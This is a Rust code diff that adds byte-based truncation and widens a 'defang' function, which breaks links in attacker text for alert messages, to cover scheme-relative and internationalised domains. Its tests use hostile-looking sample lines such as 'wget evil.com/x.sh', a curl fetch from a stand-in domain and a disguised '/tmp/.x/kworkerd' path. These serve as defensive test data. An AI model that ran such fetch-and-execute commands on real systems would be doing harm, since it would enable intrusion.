@@ -101,6 +101,22 @@ pub fn truncate(text: &str, max: usize) -> String {
     out
 }
 
+/// Cuts `text` to at most `max` UTF-8 bytes, for receivers that count bytes
+/// (SNS, EventBridge), ending with `… (N more bytes)`. Never splits a
+/// character.
+pub fn truncate_bytes(text: &str, max: usize) -> String {
+    if text.len() <= max {
+        return text.to_string();
+    }
+    // The marker names at most text.len() left out, so this is its longest.
+    let longest = format!("… ({} more bytes)", text.len()).len();
+    let mut keep = max.saturating_sub(longest);
+    while !text.is_char_boundary(keep) {
+        keep -= 1;
+    }
+    format!("{}… ({} more bytes)", &text[..keep], text.len() - keep)
+}
+
 /// Cuts already-escaped text to at most `max` characters, as the receiving
 /// service counts them (its limits apply to the text as sent, entities
 /// included), ending with `… (N more characters)`. Never splits a character
@@ -222,7 +238,7 @@ pub fn fit_json_bytes(pieces: Vec<String>, budget: usize) -> Vec<String> {
 /// `http://evil.com/x` → `hxxp://evil[.]com/x`; bare domains get `[.]` too.
 /// Applied to attacker text wherever a client might auto-link it.
 pub fn defang(text: &str) -> String {
-    if !text.contains('.') && !text.contains("://") {
+    if !text.contains(['.', '\u{3002}', '\u{FF0E}', '\u{FF61}']) && !text.contains("://") {
         return text.to_string();
     }
     let mut out = String::with_capacity(text.len() + 8);
@@ -239,14 +255,16 @@ pub fn defang(text: &str) -> String {
 }
 
 /// Paths (`/tmp/x.sh`, `./a.out`) keep their dots: they are not links, and
-/// responders search for them verbatim.
+/// responders search for them verbatim. `//host/x` is not a path but a
+/// scheme-relative link. Dots between letters of any script are broken
+/// (`пример.рф` is a domain too), and so are the ideographic and fullwidth
+/// dots that IDN resolvers read as `.`.
 fn defang_token(text: &str, out: &mut String) {
-    let is_path = text.starts_with('/')
+    let is_path = (text.starts_with('/') && !text.starts_with("//"))
         || text.starts_with("./")
         || text.starts_with("~/")
         || text.starts_with("../");
     let lower = text.to_ascii_lowercase();
-    let bytes = text.as_bytes();
     let mut i = 0;
     while i < text.len() {
         let rest = &lower[i..];
@@ -267,11 +285,17 @@ fn defang_token(text: &str, out: &mut String) {
         }
         let c = text[i..].chars().next().unwrap_or(' ');
         // A dot between two label characters is what makes a link: break it.
-        if c == '.'
+        let is_dot = matches!(c, '.' | '\u{3002}' | '\u{FF0E}' | '\u{FF61}');
+        if is_dot
             && !is_path
-            && i > 0
-            && bytes[i - 1].is_ascii_alphanumeric()
-            && bytes.get(i + 1).is_some_and(|b| b.is_ascii_alphabetic())
+            && text[..i]
+                .chars()
+                .next_back()
+                .is_some_and(char::is_alphanumeric)
+            && text[i + c.len_utf8()..]
+                .chars()
+                .next()
+                .is_some_and(char::is_alphabetic)
         {
             out.push_str("[.]");
         } else {
@@ -383,6 +407,17 @@ mod tests {
     }
 
     #[test]
+    fn truncate_bytes_counts_bytes_and_never_splits_a_character() {
+        let text = "🙂".repeat(1000);
+        for max in [40, 41, 42, 43, 100, 3999] {
+            let cut = truncate_bytes(&text, max);
+            assert!(cut.len() <= max, "{max}: {}", cut.len());
+            assert!(cut.ends_with(" more bytes)"), "{max}: {cut}");
+        }
+        assert_eq!(truncate_bytes("short", 10), "short");
+    }
+
+    #[test]
     fn truncate_marks_what_it_left_out_and_respects_the_limit() {
         assert_eq!(truncate("short", 10), "short");
         let long = "x".repeat(1000);
@@ -409,6 +444,19 @@ mod tests {
             "/tmp/.x/kworkerd /tmp/x.sh"
         );
         assert_eq!(defang("wget evil.com/x.sh"), "wget evil[.]com/x[.]sh");
+    }
+
+    #[test]
+    fn defang_breaks_scheme_relative_and_international_links() {
+        assert_eq!(defang("//evil.example/x"), "//evil[.]example/x");
+        assert_eq!(defang("curl пример.рф/a"), "curl пример[.]рф/a");
+        assert_eq!(defang("evil\u{3002}example"), "evil[.]example");
+        assert_eq!(defang("evil\u{FF0E}example"), "evil[.]example");
+        // Paths and versions are left as they are.
+        assert_eq!(
+            defang("/usr/lib/x.so python3.11"),
+            "/usr/lib/x.so python3.11"
+        );
     }
 
     #[test]
